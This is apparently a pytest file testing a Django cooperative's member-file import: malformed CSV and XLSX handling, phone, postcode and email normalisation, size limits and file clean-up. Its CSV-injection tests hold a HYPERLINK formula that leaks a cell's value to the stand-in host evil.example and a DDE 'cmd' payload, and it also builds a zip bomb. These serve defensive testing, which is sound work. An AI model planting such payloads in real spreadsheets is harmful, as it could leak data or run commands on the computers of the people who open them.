"""Messy member files, written here, driven through the real upload pages and the worker
task that reads them: open quotes, old-Mac line endings, damaged and bomb XLSX, huge
widths, title rows, `sep=`, several sheets, formulas never calculated, phones, postcodes,
addresses (case, spaces, accents, shared), the default channel, CSV injection in the
downloads, the size message, and the clean-up of every upload."""

import csv
import datetime as dt
import io
import os
import time
import zipfile

import openpyxl
import pytest
from django_scopes import scopes_disabled

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from coopculture.core import csvfiles, ticks
from coopculture.members import contacts, importing
from coopculture.members.models import Channel, ImportStatus, Member, MemberImport

pytestmark = pytest.mark.django_db

HEADER = "N° associé;Nom;Prénom;Courriel;Adresse"


# --- Helpers -----------------------------------------------------------------------------------


@pytest.fixture
def staff(users, client_for):
    return client_for(users["admin"])


@pytest.fixture
def send_file(coop, staff, django_capture_on_commit_callbacks):
    """Upload through the page; what the upload enqueued on commit (the analysis task)
    runs, as the worker would. Returns (response, the import)."""

    def send(name: str, content: bytes):
        url = reverse("members_import:start", kwargs={"coop_slug": coop.slug})
        with django_capture_on_commit_callbacks(execute=True):
            response = staff.post(url, {"file": SimpleUploadedFile(name, content)})
        with scopes_disabled():
            job = MemberImport.objects.order_by("-created_at", "-id").first()
        if job is not None:
            job.refresh_from_db()
        return response, job

    return send


def url_of(name: str, coop, job) -> str:
    return reverse(
        f"members_import:{name}", kwargs={"coop_slug": coop.slug, "import_id": job.public_id}
    )


def map_and_check(staff, coop, job, **changes) -> str:
    """Post the proposed columns (with `changes` by index); the preview page's HTML."""
    targets = list(job.mapping["targets"])
    for index, target in changes.items():
        targets[int(index.removeprefix("col_"))] = target
    response = staff.post(
        url_of("mapping", coop, job), {f"col_{i}": t for i, t in enumerate(targets)}
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    job.refresh_from_db()
    return staff.get(response["Location"]).content.decode()


def apply(staff, coop, job) -> MemberImport:
    response = staff.post(url_of("preview", coop, job))
    assert response.status_code == 302
    job.refresh_from_db()
    return job


def stored_files() -> set[str]:
    storage = MemberImport._meta.get_field("file").storage
    return set(storage.listdir("imports")[1]) if storage.exists("imports") else set()


def members_of(coop) -> dict[str, Member]:
    with scopes_disabled():
        return {m.external_ref: m for m in Member.objects.filter(coop=coop)}


def xlsx(sheets: dict[str, list[list]], active: str | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    if active:
        workbook.active = workbook.sheetnames.index(active)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(content: bytes, replace: dict[str, bytes], *, extra: dict[str, bytes] | None = None):
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def refused(job, code: str) -> str:
    """The import was refused by the analysis with `code`; its file is gone."""
    assert job.status == ImportStatus.FAILED, (job.status, job.errors)
    assert [e["code"] for e in job.errors] == [code], job.errors
    assert not job.file
    return job.errors[0]["message"]


# --- Rows merged by an open quote --------------------------------------------------------------


def test_a_cell_opening_with_a_quote_stops_the_import_at_its_line(coop, staff, send_file):
    """The 5-row file that became "2 rows checked, no error" and one member's address."""
    before = stored_files()
    content = "\r\n".join(
        [
            HEADER,
            "A1;Martin;Luc;luc@example.org;3 rue des Lilas",
            'A2;Bernard;Anne;anne@example.org;"Bâtiment B',
            "A3;Petit;Paul;paul@example.org;5 rue du Port",
            "A4;Durand;Marie;marie@example.org;7 place du Marché",
            "A5;Leroy;Jean;jean@example.org;9 allée des Pins",
        ]
    ).encode("cp1252")
    response, job = send_file("adherents.csv", content)
    message = refused(job, "open_quote")
    assert "Ligne 3 du fichier" in message
    page = staff.get(response["Location"], follow=True).content.decode()
    assert "Ligne 3 du fichier" in page and "Aucune donnée n’a été importée" not in page
    assert members_of(coop) == {}
    assert stored_files() == before


def test_a_real_multi_line_address_in_quotes_is_still_one_cell(coop, staff, send_file):
    content = HEADER + '\nA1;Martin;Luc;;"Résidence Les Pins\nEntrée 2"\nA2;Petit;Paul;;5 rue\n'
    _response, job = send_file("adresses.csv", content.encode())
    assert job.status == ImportStatus.UPLOADED and job.total_rows == 2
    map_and_check(staff, coop, job)
    apply(staff, coop, job)
    assert members_of(coop)["A1"].postal_address == "Résidence Les Pins\nEntrée 2"


def test_a_row_with_more_cells_than_columns_is_an_error_not_a_silent_loss(coop, staff, send_file):
    content = HEADER + "\nA1;Martin;Luc;luc@example.org;3 rue des Lilas;Lyon\n"
    _response, job = send_file("decale.csv", content.encode())
    page = map_and_check(staff, coop, job)
    assert 'data-code="extra_cells"' in page
    assert job.errors[0]["row"] == 2


# --- Line endings, damaged and oversized files -------------------------------------------------


def test_old_mac_line_endings_are_read(coop, staff, send_file):
    content = "\r".join(
        [HEADER, "M1;Noël;Zoé;zoe@example.org;1 rue A", "M2;Gaël;Loïc;;2 rue B", ""]
    ).encode("cp1252")
    response, job = send_file("mac.csv", content)
    assert response.status_code == 302
    assert (job.status, job.delimiter, job.total_rows) == (ImportStatus.UPLOADED, ";", 2)
    map_and_check(staff, coop, job)
    assert apply(staff, coop, job).status == ImportStatus.DONE
    assert {m.first_name for m in members_of(coop).values()} == {"Zoé", "Loïc"}
    assert not job.file  # done: deleted


def test_a_damaged_sheet_gets_a_french_message_and_its_file_is_deleted(coop, staff, send_file):
    good = xlsx({"Adhérents": [["N° associé", "Nom", "Prénom"], ["X1", "Perrin", "Anaïs"]]})
    broken = rezip(good, {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row r='1'><c"})
    before = stored_files()
    response, job = send_file("abime.xlsx", broken)
    assert "endommagé" in refused(job, "damaged_xlsx")
    page = staff.get(response["Location"], follow=True)
    assert page.status_code == 200 and "endommagé" in page.content.decode()
    assert stored_files() == before


def test_a_zip_bomb_is_refused_in_the_request_before_any_reading(coop, staff, send_file):
    good = xlsx({"Feuil1": [["N° associé", "Nom", "Prénom"], ["X1", "Perrin", "Anaïs"]]})
    bomb = rezip(good, {}, extra={"xl/media/padding.xml": b"0" * (30 * 1024 * 1024)})
    assert len(bomb) < 100 * 1024  # 30 MiB once opened, from a few dozen KiB
    before = stored_files()
    response, job = send_file("bombe.xlsx", bomb)
    assert response.status_code == 200 and job is None  # refused by the upload form
    body = response.content.decode()
    assert 'class="error-summary"' in body and "une fois ouvert" in body
    assert stored_files() == before


def test_a_sheet_claiming_a_million_rows_and_columns_is_read_within_bounds(coop, staff, send_file):
    good = xlsx({"Feuil1": [["N° associé", "Nom", "Prénom"], ["X1", "Perrin", "Anaïs"]]})
    sheet = zipfile.ZipFile(io.BytesIO(good)).read("xl/worksheets/sheet1.xml").decode()
    sheet = sheet.replace('<dimension ref="A1:C2"', '<dimension ref="A1:XFD1048576"')
    assert "XFD1048576" in sheet
    _response, job = send_file(
        "dimension.xlsx", rezip(good, {"xl/worksheets/sheet1.xml": sheet.encode()})
    )
    assert (job.status, job.total_rows, len(job.headers)) == (ImportStatus.UPLOADED, 1, 3)
    map_and_check(staff, coop, job)
    assert apply(staff, coop, job).status == ImportStatus.DONE


def test_twenty_thousand_columns_are_refused_by_the_analysis(coop, staff, send_file):
    header = ";".join(["N° associé", "Nom", "Prénom"] + [f"C{n}" for n in range(20_000)])
    row = ";".join(["X1", "Perrin", "Anaïs"] + ["x"] * 20_000)
    _response, job = send_file("large.csv", f"{header}\n{row}\n".encode())
    assert "plus de 200 colonnes" in refused(job, "too_many_columns")
    page = staff.get(url_of("mapping", coop, job), follow=True)
    body = page.content.decode()
    assert "<select" not in body and len(body) < 100_000  # not 36 MB of menus
    assert "plus de 200 colonnes" in body


def test_too_many_rows_are_refused(coop, staff, send_file, monkeypatch):
    monkeypatch.setattr(importing, "MAX_ROWS", 3)
    rows = [HEADER] + [f"R{n};Nom;Prénom;;" for n in range(5)]
    _response, job = send_file("long.csv", "\n".join(rows).encode())
    refused(job, "too_many_rows")


def test_the_analysis_task_is_idempotent(coop, staff, send_file):
    from coopculture.members.import_tasks import analyse_import_task

    _response, job = send_file("a.csv", (HEADER + "\nA1;Martin;Luc;;\n").encode())
    map_and_check(staff, coop, job)
    assert job.status == ImportStatus.MAPPED
    assert analyse_import_task.call(coop_id=coop.pk, import_id=job.pk) == ImportStatus.MAPPED
    job.refresh_from_db()
    assert job.status == ImportStatus.MAPPED and job.mapping["source"] == "chosen"


def test_the_analysing_page_works_without_javascript_and_with_htmx(coop, staff):
    url = reverse("members_import:start", kwargs={"coop_slug": coop.slug})
    response = staff.post(
        url, {"file": SimpleUploadedFile("a.csv", (HEADER + "\nA1;M;L;;\n").encode())}
    )
    mapping = response["Location"]  # on_commit not run: the worker has not read it yet
    page = staff.get(mapping).content.decode()
    assert "Analyse en cours" in page and f'href="{mapping}"' in page
    assert 'hx-trigger="every 2s"' in page and "http-equiv" not in page
    # htmx asks again: still analysing, the same page; once read, a full reload.
    assert "HX-Refresh" not in staff.get(mapping, headers={"HX-Request": "true"})
    with scopes_disabled():
        job = MemberImport.objects.get()
    with scopes_disabled():
        importing.import_analyse(coop=coop, job=job)
    answer = staff.get(mapping, headers={"HX-Request": "true"})
    assert answer["HX-Refresh"] == "true"
    assert "<select" in staff.get(mapping).content.decode()


# --- Where the table is ------------------------------------------------------------------------


def test_a_title_row_and_excels_sep_line_are_skipped(coop, staff, send_file):
    content = "\r\n".join(
        [
            "sep=,",
            "Liste des coopérateurs au 01/12/2026,,,",
            ",,,",
            "N° associé,Nom,Prénom,Courriel",
            "T1,Noël,Zoé,zoe@example.org",
            "T2,Gaël,Loïc,",
        ]
    ).encode("utf-8")
    _response, job = send_file("titre.csv", content)
    assert (job.delimiter, job.header_row, job.headers[0]) == (",", 4, "N° associé")
    page = staff.get(url_of("mapping", coop, job)).content.decode()
    assert "trouvés à la ligne 4" in page
    map_and_check(staff, coop, job)
    assert job.total_rows == 2 and job.errors == []
    apply(staff, coop, job)
    assert set(members_of(coop)) == {"T1", "T2"}


def test_a_title_row_above_the_header_in_an_xlsx(coop, staff, send_file):
    content = xlsx(
        {
            "Export": [
                ["Export du 01/12/2026"],
                [],
                ["N° associé", "Nom", "Prénom"],
                ["X1", "Perrin", "Anaïs"],
                ["X2", "", "Yves"],
            ]
        }
    )
    _response, job = send_file("titre.xlsx", content)
    assert job.header_row == 3
    page = map_and_check(staff, coop, job)
    assert job.errors[0]["row"] == 5  # the row as the spreadsheet numbers it
    assert 'data-code="required"' in page


def test_the_members_sheet_is_found_and_another_can_be_chosen(
    coop, staff, send_file, django_capture_on_commit_callbacks
):
    content = xlsx(
        {
            "Lisez-moi": [["Export de la gestion locative"]],
            "Adhérents": [["N° associé", "Nom", "Prénom"], ["S1", "Perrin", "Anaïs"]],
            "Anciens": [
                ["Matricule", "Nom", "Prénom", "Ville"],
                ["O1", "Roux", "Inès", "Lyon"],
                ["O2", "Faure", "Noé", "Dijon"],
            ],
        },
        active="Lisez-moi",
    )
    _response, job = send_file("classeur.xlsx", content)
    assert (job.sheet, job.total_rows) == ("Adhérents", 1)
    page = staff.get(url_of("mapping", coop, job)).content.decode()
    assert "Adhérents" in page and '<option value="Anciens">' in page
    with django_capture_on_commit_callbacks(execute=True):
        response = staff.post(url_of("sheet", coop, job), {"sheet": "Anciens"})
    assert response["Location"] == url_of("mapping", coop, job)
    job.refresh_from_db()
    assert (job.sheet, job.total_rows, job.headers[-1]) == ("Anciens", 2, "Ville")
    map_and_check(staff, coop, job)
    apply(staff, coop, job)
    assert set(members_of(coop)) == {"O1", "O2"}
    # A sheet that is not in the file is refused.
    response = staff.post(url_of("sheet", coop, job), {"sheet": "Inconnue"}, follow=True)
    assert response.status_code == 200


def test_formulas_never_calculated_are_said_to_be_read_as_empty(coop, staff, send_file):
    content = xlsx(
        {
            "Feuil1": [
                ["N° associé", "Nom", "Prénom", "Courriel"],
                ["F1", "Perrin", "Anaïs", '=LOWER(C2)&"@example.org"'],
                ["F2", "Roux", "Inès", "ines@example.org"],
            ]
        }
    )
    _response, job = send_file("formules.xlsx", content)
    page = staff.get(url_of("mapping", coop, job)).content.decode()
    assert 'data-code="uncalculated_formulas"' in page and "D2" in page
    assert "lue comme vide" in page
    preview = map_and_check(staff, coop, job)
    assert "D2" in preview  # said again before importing


# --- Cells: phones, postcodes, dates ----------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (612345678, "06 12 34 56 78"),  # a number in Excel: its 0 is back
        (612345678.0, "06 12 34 56 78"),
        ("612345678", "06 12 34 56 78"),
        ("06.12.34.56.78", "06 12 34 56 78"),
        ("+33 6 12 34 56 78", "06 12 34 56 78"),
        ("0033612345678", "06 12 34 56 78"),
        ("01 23 45 67 89", "01 23 45 67 89"),
        ("0800123456", "0 800 12 34 56"),
        ("+41 22 123 45 67", "+41 22 123 45 67"),
        ("0690 12 34 56", "0690 12 34 56"),  # Guadeloupe, dialled from France
        (692123456, "0692 12 34 56"),  # La Réunion, its 0 lost in Excel
        ("", ""),
    ],
)
def test_phones_are_checked_and_restored(value, expected):
    assert contacts.normalise_phone(value) == expected


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("6,12346E+08", "phone_lost_digits"),
        ("6.12346e8", "phone_lost_digits"),
        (6.12346e8 + 0.5, "phone_lost_digits"),
        ("123", "invalid_phone"),
        ("07 00 00 00 00", "invalid_phone"),
        ("appeler le soir", "invalid_phone"),
    ],
)
def test_phones_that_cannot_be_restored_are_flagged(value, code):
    with pytest.raises(contacts.ContactError) as error:
        contacts.normalise_phone(value)
    assert error.value.code == code


@pytest.mark.parametrize(
    ("value", "expected"),
    [(1000, "01000"), ("1000", "01000"), (69003, "69003"), ("69 003", "69003"), (97400.0, "97400")],
)
def test_postcodes_get_their_lost_zero(value, expected):
    assert contacts.normalise_postcode(value) == expected


def test_phones_and_postcodes_in_a_file(coop, staff, send_file):
    content = xlsx({"Feuil1": [
        ["N° associé", "Nom", "Prénom", "Téléphone", "Code postal", "Ville"],
        ["P1", "Perrin", "Anaïs", 612345678, 1000, "Bourg-en-Bresse"],
        ["P2", "Roux", "Inès", "6,12346E+08", "690", "Lyon"],
    ]})  # fmt: skip
    _response, job = send_file("tel.xlsx", content)
    page = map_and_check(staff, coop, job)
    assert {(e["row"], e["column"], e["code"]) for e in job.errors} == {
        (3, "Téléphone", "phone_lost_digits"),
        (3, "Code postal", "invalid_postcode"),
    }
    assert "chiffres sont perdus" in page
    with scopes_disabled():
        job.file.delete(save=False)
    fixed = xlsx({"Feuil1": [
        ["N° associé", "Nom", "Prénom", "Téléphone", "Code postal", "Ville"],
        ["P1", "Perrin", "Anaïs", 612345678, 1000, "Bourg-en-Bresse"],
    ]})  # fmt: skip
    _response, job = send_file("tel.xlsx", fixed)
    map_and_check(staff, coop, job)
    apply(staff, coop, job)
    member = members_of(coop)["P1"]
    assert member.phone == "06 12 34 56 78"
    assert member.postal_address == "01000 Bourg-en-Bresse"


@pytest.mark.parametrize(
    ("header", "target"),
    [
        ("Date d'entrée", "profile_start"),
        ("Date d'adhésion", "profile_start"),
        ("Date de réservation", "signed_on"),
        ("Date du bail", "signed_on"),
    ],
)
def test_the_entry_date_is_the_membership_date_not_the_reservation(header, target):
    assert importing.guess_target(header) == target
    # Without a profile column an entry date has nowhere to go: the user decides.
    assert importing.guess_targets(["Nom", header, "Statut"])[1] == target
    if target == "profile_start":
        assert importing.guess_targets(["Nom", header]) == ["last_name", ""]


# --- Addresses and channels --------------------------------------------------------------------


def test_without_a_channel_column_members_with_an_email_get_email(coop, staff, send_file):
    content = HEADER + "\nC1;Martin;Luc;luc@example.org;3 rue A\nC2;Petit;Paul;;5 rue B\n"
    _response, job = send_file("canal.csv", content.encode())
    page = map_and_check(staff, coop, job)
    assert '<tr data-channel="email">' in page and '<tr data-channel="post">' in page
    assert ": 1 coopérateur<" in page and page.count(": 1 coopérateur<") == 2
    apply(staff, coop, job)
    members = members_of(coop)
    assert members["C1"].preferred_channel == Channel.EMAIL
    assert members["C2"].preferred_channel == Channel.POST


def test_addresses_are_normalised_and_shared_ones_flagged(coop, staff, send_file):
    content = "\n".join(
        [
            HEADER,
            "E1;Martin;Luc; Luc.Martin@Example.FR ;",
            "E2;Martin;Léa;luc.martin@example.fr\u00a0;",
            "E3;Noël;José;jose@exémple.fr;",
        ]
    )
    _response, job = send_file("courriels.csv", content.encode())
    page = map_and_check(staff, coop, job)
    assert job.errors == []
    warnings = job.summary["warnings"]
    assert [(w["row"], w["code"]) for w in warnings] == [(2, "shared_email"), (3, "shared_email")]
    assert "luc.martin@example.fr" in page and "plusieurs lignes" in page
    apply(staff, coop, job)
    members = members_of(coop)
    assert members["E1"].email == members["E2"].email == "luc.martin@example.fr"
    assert members["E3"].email == "jose@xn--exmple-cva.fr"  # IDNA: usable in mail headers
    assert contacts.display_email(members["E3"].email) == "jose@exémple.fr"


def test_an_address_of_another_member_is_flagged_and_an_accented_local_part_refused(
    coop, staff, send_file
):
    with scopes_disabled():
        Member.objects.create(
            coop=coop,
            first_name="Anne",
            last_name="Roux",
            email="anne@example.org",
            external_ref="OLD",
        )
    content = HEADER + "\nN1;Roux;Paul;ANNE@example.org;\nN2;Noël;José;josé@example.fr;\n"
    _response, job = send_file("autres.csv", content.encode())
    map_and_check(staff, coop, job)
    assert [(e["row"], e["code"]) for e in job.errors] == [(3, "accented_email")]
    assert [(w["row"], w["code"]) for w in job.summary["warnings"]] == [
        (2, "email_of_another_member")
    ]


# --- Downloads: no formula gets through --------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_helper_neutralises_every_formula_start(start):
    assert csvfiles.safe_cell(f'{start}HYPERLINK("http://x")') == f'\'{start}HYPERLINK("http://x")'
    assert csvfiles.safe_cell("Dupont") == "Dupont" and csvfiles.safe_cell(-3) == -3


def test_the_report_and_the_error_list_write_no_formula(coop, staff, send_file):
    payload = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    rows = [
        "N° associé;Nom;Prénom;Courriel",
        '"' + payload.replace('"', '""') + '";Martin;Luc;',
        "+33;@Petit;-Paul;",
    ]
    _response, job = send_file("injection.csv", "\n".join(rows).encode())
    map_and_check(staff, coop, job)
    apply(staff, coop, job)
    assert job.status == ImportStatus.DONE
    report = b"".join(staff.get(url_of("report", coop, job)).streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(report), delimiter=";") for cell in row]
    assert f"'{payload}" in cells and "'+33" in cells
    assert not any(cell.startswith(csvfiles.FORMULA_STARTS) for cell in cells)

    bad = "N° associé;Nom;Prénom;Courriel\n=1+1;Martin;Luc;=cmd|' /C calc'!A0\n"
    _response, job = send_file("injection2.csv", bad.encode())
    map_and_check(staff, coop, job)
    errors = staff.get(url_of("errors", coop, job)).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(errors), delimiter=";") for cell in row]
    assert len(cells) > 4
    assert not any(cell.startswith(csvfiles.FORMULA_STARTS) for cell in cells)


# --- The size message --------------------------------------------------------------------------


def test_the_size_message_is_exact_just_over_the_limit_and_the_limit_is_allowed(
    coop, staff, send_file, monkeypatch
):
    monkeypatch.setattr(importing, "MAX_FILE_SIZE", 2 * 1024 * 1024)
    body = (HEADER + "\n").encode()
    filler = b"A1;Martin;Luc;;" + b" " * 100 + b"\n"
    content = body + filler * ((importing.MAX_FILE_SIZE - len(body)) // len(filler))
    content += b"A2;Petit;Paul;;" + b" " * (importing.MAX_FILE_SIZE - len(content) - 16) + b"\n"
    assert len(content) == importing.MAX_FILE_SIZE
    response, _job = send_file("limite.csv", content)
    assert response.status_code == 302  # at the limit: accepted
    response, _job = send_file("trop.csv", content + b"\n")
    text = response.content.decode()
    assert response.status_code == 200
    text = text.replace("\xa0", " ").replace("\u202f", " ")
    # Rounded, both would be "2,0 Mo": the exact bytes say which is bigger.
    assert "pèse 2 097 153 octets : la limite est de 2 097 152 octets" in text


# --- Every upload is deleted -------------------------------------------------------------------


def test_every_upload_is_deleted_on_every_path(coop, staff, send_file, settings):
    before = stored_files()
    # Success: deleted at once (see the other tests); refused for a file error: deleted.
    _response, failed = send_file("vide.csv", b"Nom;Prenom\n")
    assert not failed.file
    # Left unfinished (abandoned at the columns, or refused for errors in rows): kept for
    # "change the columns", deleted by the tick after UPLOAD_RETENTION.
    _response, abandoned = send_file("abandon.csv", (HEADER + "\nA1;Martin;Luc;;\n").encode())
    _response, with_errors = send_file("erreurs.csv", (HEADER + "\nA1;;Luc;;\n").encode())
    map_and_check(staff, coop, with_errors)
    apply(staff, coop, with_errors)
    assert with_errors.errors and with_errors.file
    assert len(stored_files() - before) == 2
    # An orphan: a file no import refers to (a crash between saving it and its import).
    storage = MemberImport._meta.get_field("file").storage
    orphan = storage.save("imports/orphelin.csv", io.BytesIO(b"Nom;Prenom\nDupont;Luc\n"))
    young = storage.save("imports/en-cours.csv", io.BytesIO(b"Nom;Prenom\n"))
    old = time.time() - importing.ORPHAN_AGE.total_seconds() - 60
    os.utime(storage.path(orphan), (old, old))

    with scopes_disabled():
        MemberImport.objects.filter(pk__in=[abandoned.pk, with_errors.pk]).update(
            created_at=timezone.now() - importing.UPLOAD_RETENTION - dt.timedelta(minutes=1)
        )
    ran = ticks.run_due_jobs()
    assert "members.import_files" in ran
    for job in (abandoned, with_errors):
        job.refresh_from_db()
        assert not job.file
    assert not storage.exists(orphan)
    assert storage.exists(young)  # may be an upload being saved right now
    storage.delete(young)
    assert stored_files() - before == set()


def test_a_large_file_is_checked_by_the_worker_not_the_request(coop, staff, send_file, monkeypatch):
    monkeypatch.setattr(importing, "BACKGROUND_THRESHOLD", 2)
    rows = [HEADER] + [f"R{n};Nom{n};Prénom{n};;" for n in range(3)]
    _response, job = send_file("grand.csv", "\n".join(rows).encode())
    targets = job.mapping["targets"]
    response = staff.post(
        url_of("mapping", coop, job), {f"col_{i}": t for i, t in enumerate(targets)}
    )
    preview_url = response["Location"]
    job.refresh_from_db()
    assert job.status == ImportStatus.CHECKING  # on_commit not run: nothing checked yet
    page = staff.get(preview_url).content.decode()
    assert "Vérification en cours" in page and f'href="{preview_url}"' in page
    assert "Importer 3 lignes" not in page
    from coopculture.members.import_tasks import check_import_task

    assert check_import_task.call(coop_id=coop.pk, import_id=job.pk) == ImportStatus.MAPPED
    job.refresh_from_db()
    assert (job.status, job.created_count) == (ImportStatus.MAPPED, 3)
    assert "<dd>3</dd>" in staff.get(preview_url).content.decode()


def test_addresses_stored_before_are_normalised_by_the_migration(coop):
    import importlib

    from django.apps import apps

    migration = importlib.import_module(
        "coopculture.members.migrations.0004_normalise_member_emails"
    )
    with scopes_disabled():
        accented = Member.objects.create(
            coop=coop, first_name="José", last_name="Noël", email=" Jose@Exémple.FR"
        )
        broken = Member.objects.create(
            coop=coop, first_name="Zoé", last_name="Roux", email="zoé@example.fr"
        )
        migration.forwards(apps, None)
        accented.refresh_from_db()
        broken.refresh_from_db()
    assert accented.email == "jose@xn--exmple-cva.fr"
    assert broken.email == "zoé@example.fr"  # unusable either way: left for the staff


def test_the_header_row_is_found_among_titles_and_is_not_a_data_row():
    rows = [
        (1, ["Coop A – export du 01/12/2026", "", ""]),
        (3, ["Réf", "Nom", 2023, 2024]),  # two years as column names
        (4, ["R1", "Résidence du Parc", "e-mail", ""]),  # words that look like names
    ]
    assert importing.header_index(rows) == 1
    assert importing.header_index([(1, ["Nom", "Prénom"]), (2, ["Dupont", "Luc"])]) == 0
